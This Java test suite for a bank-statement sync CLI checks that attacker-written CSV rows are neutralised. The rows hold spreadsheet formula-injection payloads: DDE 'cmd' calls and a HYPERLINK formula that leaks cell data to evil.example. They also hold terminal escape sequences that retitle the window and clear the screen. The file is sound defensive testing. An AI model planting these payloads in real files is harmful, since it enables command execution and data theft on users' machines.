package io.foliosync.examples.cli;

import static org.assertj.core.api.Assertions.assertThat;

import io.foliosync.examples.cli.ShadedJar.Run;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A bank statement written by an attacker (issue 23, cases 1 and 9), synced and listed through the shaded jar as a
 * process: what reaches a spreadsheet is not evaluated, what reaches the terminal does not act on it, text that is
 * not what the source wrote is rejected naming its field, and a figure of 401 digits is refused as malformed.
 */
class HostileStatementJarTest {
    private static final String HEADER = "Details,Posting Date,Description,Amount,Type,Balance,Check or Slip #\n";
    private static final char ESC = 0x1B;
    private static final char BEL = 0x07;

    @TempDir
    Path dir;
    Path statements;
    Path config;
    Path db;

    @BeforeEach
    void configure() throws Exception {
        statements = Files.createDirectories(dir.resolve("statements"));
        db = dir.resolve("foliosync.db");
        config = dir.resolve("data_sources.yaml");
        Files.writeString(config, """
                global:
                  database_path: %s
                  master_key_file: %s
                plugins:
                  directory: %s
                  classpath: false
                  enabled: [chase]
                """.formatted(db, dir.resolve("master.key"), DemoCommand.shippedPlugins()));
        Run configured = run("plugins", "configure", "chase", "--set", "statement_dir=" + statements);
        assertThat(configured.exit()).as(configured.output()).isZero();
    }

    private Run run(String... args) throws Exception {
        String[] all = new String[args.length + 2];
        System.arraycopy(args, 0, all, 0, args.length);
        all[args.length] = "--config";
        all[args.length + 1] = config.toString();
        return ShadedJar.start(dir, all).await();
    }

    private static String row(String date, String description, String amount, String balance) {
        return (amount.startsWith("-") ? "DEBIT" : "CREDIT") + "," + date + ",\"" + description.replace("\"", "\"\"")
                + "\"," + amount + "," + (amount.startsWith("-") ? "DEBIT_CARD" : "ACH_CREDIT") + "," + balance
                + ",,\n";
    }

    @Test
    void formulasReachASpreadsheetAsTextAndControlSequencesReachTheTerminalEscaped() throws Exception {
        String title = ESC + "]0;pwned" + BEL; // OSC: retitles the terminal window
        String clear = ESC + "[2J"; // CSI: clears the screen
        Files.writeString(statements.resolve("Chase1234_Activity_20240131.CSV"), HEADER
                + row("01/09/2024", "COFFEE " + title + " SHOP " + clear + "\rPAID", "-40.00", "50.00")
                + row("01/08/2024", "@SUM(1+9)*cmd|' /C calc'!A0", "-30.00", "90.00")
                + row("01/07/2024", "-2+3+cmd|' /C calc'!A0", "-20.00", "120.00")
                + row("01/06/2024", "+SUM(1+1)", "-10.00", "140.00")
                + row("01/05/2024", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Refund\")", "50.00", "150.00"),
                StandardCharsets.UTF_8);
        Run sync = run("sync");
        assertThat(sync.exit()).as(sync.output()).isZero();

        Run csv = run("transactions", "--format", "csv");
        assertThat(csv.exit()).as(csv.output()).isZero();
        assertThat(csv.output())
                .contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Refund\"\")\"")
                .contains(",'+SUM(1+1)").contains(",'-2+3+cmd|' /C calc'!A0").contains(",'@SUM(1+9)*cmd|' /C calc'!A0");
        // no cell of the export starts a formula: every cell after a separator that starts with a trigger is quoted
        assertThat(csv.output().lines().filter(l -> l.contains("SUM") || l.contains("HYPERLINK"))
                .filter(l -> l.matches(".*,\"?[=+@-](SUM|HYPERLINK|2\\+3).*"))).isEmpty();

        Run raw = run("transactions", "--format", "csv", "--raw");
        assertThat(raw.output()).contains(",\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Refund\"\")\"")
                .contains(",+SUM(1+1)");

        // a negative figure is a number, not text: the net of the flows stays a number a spreadsheet adds up
        Run flows = run("transactions", "--flows", "--format", "csv");
        assertThat(flows.output().lines()).contains("asset,deposited,withdrawn,net", "USD,50,100,-50");

        Run table = run("transactions");
        assertThat(table.exit()).as(table.output()).isZero();
        assertThat(table.output()).doesNotContain(String.valueOf(ESC)).doesNotContain(String.valueOf(BEL))
                .doesNotContain("\r")
                .contains("COFFEE \\x1B]0;pwned\\x07 SHOP \\x1B[2J\\x0DPAID");
    }

    @Test
    void invalidUtf8AndNulInADescriptionRejectTheRecordNamingTheFieldAndTheRestIsImported() throws Exception {
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        file.writeBytes((HEADER + row("01/07/2024", "PAYROLL ACME", "1500.00", "1690.00")
                + row("01/06/2024", "CAF", "-4.50", "190.00")).getBytes(StandardCharsets.UTF_8));
        byte[] bytes = file.toByteArray();
        String text = new String(bytes, StandardCharsets.ISO_8859_1)
                // a byte of windows-1252 (é) in a UTF-8 file, and a NUL
                .replace("\"CAF\"", "\"CAF\u00E9 DE PARIS\"")
                .replace("PAYROLL ACME", "PAYROLL\u0000ACME");
        Files.write(statements.resolve("Chase1234_Activity_20240131.CSV"), text.getBytes(StandardCharsets.ISO_8859_1));
        Files.writeString(statements.resolve("Chase5678_Activity_20240131.CSV"), HEADER
                + row("01/05/2024", "GROCERY", "-12.00", "188.00"), StandardCharsets.UTF_8);

        Run sync = run("sync");

        assertThat(sync.exit()).as(sync.output()).isEqualTo(Errors.REJECTED);
        assertThat(sync.output()).contains("text_encoding").contains("description holds U+FFFD at position 4")
                .contains("description holds a NUL character at position 8");
        assertThat(ShadedJar.count(db, "SELECT COUNT(*) FROM transactions")).isEqualTo(1);
        assertThat(ShadedJar.count(db, "SELECT COUNT(*) FROM quarantine WHERE rule = 'text_encoding'")).isEqualTo(2);
        Run rejected = run("rejected", "--format", "csv");
        assertThat(rejected.output()).contains("text_encoding,description");
    }

    @Test
    void anAmountOf401DigitsIsMalformedNamingSourceRecordAndFieldAndNothingOfThePageIsStored() throws Exception {
        Files.writeString(statements.resolve("Chase1234_Activity_20240131.CSV"), HEADER
                + row("01/06/2024", "HUGE", "-1E+400", "100.00")
                + row("01/05/2024", "FINE", "-1.00", "101.00"), StandardCharsets.UTF_8);

        Run sync = run("sync");

        assertThat(sync.exit()).as(sync.output()).isEqualTo(Errors.FAILED);
        assertThat(sync.line("chase")).contains("failed").contains("amount").contains("1E+400")
                .contains("24 integer digits");
        assertThat(sync.output()).doesNotContain("0".repeat(100));
        assertThat(ShadedJar.count(db, "SELECT COUNT(*) FROM transactions")).isZero();
        assertThat(ShadedJar.count(db, "SELECT COALESCE(MAX(LENGTH(amount)), 0) FROM transactions")).isZero();
    }
}
